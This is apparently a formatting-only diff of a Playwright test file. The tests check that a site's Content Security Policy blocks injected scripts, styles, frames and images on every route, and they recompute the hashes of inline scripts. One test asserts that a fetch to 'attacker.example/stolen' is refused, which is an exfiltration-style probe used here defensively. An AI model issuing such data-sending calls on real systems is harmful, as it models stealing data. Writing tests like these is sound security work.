@@ -51,11 +51,17 @@ async function inject(page: Page, path: string, change = (html: string) => html)
 }
 
 /** What the two injected styles did: to the whole page, and to the element that carries one. */
-const styled = (page: Page) => Promise.all([':root', '#injected-style'].map((selector) =>
-  page.locator(selector).evaluate((element) => getComputedStyle(element).getPropertyValue('--injected'))));
+const styled = (page: Page) =>
+  Promise.all(
+    [':root', '#injected-style'].map((selector) =>
+      page.locator(selector).evaluate((element) => getComputedStyle(element).getPropertyValue('--injected')),
+    ),
+  );
 
 for (const path of [...routes, '/no-such-page']) {
-  test(`G8 ${path}: the policy refuses nothing of ours, and every script and style written into it`, async ({ page }) => {
+  test(`G8 ${path}: the policy refuses nothing of ours, and every script and style written into it`, async ({
+    page,
+  }) => {
     const { refused, reached, injected } = await watch(page);
     const response = await page.goto(path);
     const headers = response?.headers() ?? {};
@@ -63,10 +69,29 @@ for (const path of [...routes, '/no-such-page']) {
     expect(await refused()).toEqual([]);
 
     await inject(page, path);
-    await expect.poll(refused).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src', 'frame-src', 'base-uri']));
+    await expect
+      .poll(refused)
+      .toEqual(
+        expect.arrayContaining([
+          'script-src-elem',
+          'script-src-attr',
+          'style-src-elem',
+          'style-src-attr',
+          'img-src',
+          'frame-src',
+          'base-uri',
+        ]),
+      );
     expect(await injected()).toBeUndefined();
     expect(await styled(page)).toEqual(['', '']);
-    expect(await page.evaluate(() => fetch('https://attacker.example/stolen').then(() => 'sent', () => 'refused'))).toBe('refused');
+    expect(
+      await page.evaluate(() =>
+        fetch('https://attacker.example/stolen').then(
+          () => 'sent',
+          () => 'refused',
+        ),
+      ),
+    ).toBe('refused');
     expect(reached).toEqual([]);
   });
 }
@@ -74,13 +99,24 @@ for (const path of [...routes, '/no-such-page']) {
 test('G8 without the policy of the page all of that runs, so the tests above can fail', async ({ page }) => {
   const { injected } = await watch(page);
   await inject(page, '/terms', (html) => html.replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''));
-  await expect.poll(async () => (await injected())?.sort()).toEqual([
-    'a handler', 'a handler of a drawing', 'a script behind a link', 'a script in a frame', 'a script in an address', 'a script of another host', 'an inline module', 'an inline script',
-  ]);
+  await expect
+    .poll(async () => (await injected())?.sort())
+    .toEqual([
+      'a handler',
+      'a handler of a drawing',
+      'a script behind a link',
+      'a script in a frame',
+      'a script in an address',
+      'a script of another host',
+      'an inline module',
+      'an inline script',
+    ]);
   expect(await styled(page)).toEqual(['yes', 'yes']);
 });
 
-test('G8 the policy of each page stands before all it speaks of, and lists exactly its own scripts and styles', async ({ page }) => {
+test('G8 the policy of each page stands before all it speaks of, and lists exactly its own scripts and styles', async ({
+  page,
+}) => {
   await page.goto('/terms');
   for (const path of [...routes, '/no-such-page']) {
     const html = await (await page.request.get(path)).text();
@@ -98,12 +134,24 @@ async function readPolicy(html: string) {
   const parsed = new DOMParser().parseFromString(html, 'text/html');
   const meta = parsed.head.querySelector('meta[http-equiv="content-security-policy" i]');
   const children = [...parsed.head.children];
-  const before = children.slice(0, children.findIndex((child) => child === meta)).map((child) => child.getAttributeNames().join());
+  const before = children
+    .slice(
+      0,
+      children.findIndex((child) => child === meta),
+    )
+    .map((child) => child.getAttributeNames().join());
   const isData = (script: HTMLScriptElement) => script.type === 'application/ld+json';
-  const inline = [...[...parsed.scripts].filter((script) => !script.src && !isData(script)), ...parsed.querySelectorAll('style')];
+  const inline = [
+    ...[...parsed.scripts].filter((script) => !script.src && !isData(script)),
+    ...parsed.querySelectorAll('style'),
+  ];
   const hashOf = async ({ textContent }: Element) => {
     const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(textContent));
     return `'sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}'`;
   };
-  return { before, policy: meta?.getAttribute('content') ?? '', hashes: [...new Set(await Promise.all(inline.map(hashOf)))].sort() };
+  return {
+    before,
+    policy: meta?.getAttribute('content') ?? '',
+    hashes: [...new Set(await Promise.all(inline.map(hashOf)))].sort(),
+  };
 }
